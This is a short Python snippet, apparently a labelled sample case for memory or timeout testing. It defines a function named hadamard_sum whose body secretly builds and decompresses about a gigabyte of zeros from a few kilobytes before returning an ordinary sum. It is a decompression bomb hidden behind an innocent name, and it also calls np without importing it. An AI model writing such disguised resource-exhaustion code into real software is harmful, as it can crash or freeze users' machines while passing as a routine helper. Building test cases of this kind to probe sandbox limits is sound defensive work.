# C62 MEMORY|TIMEOUT: a few kilobytes that unpack to gigabytes.
# %%
import zlib


def hadamard_sum(window, kernel):
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(2**22)) + packer.flush(zlib.Z_FULL_FLUSH)
    data = zlib.decompress(block * 255 + zlib.compress(b"", wbits=-15), wbits=-15)
    return np.sum(window * kernel) if data else 0
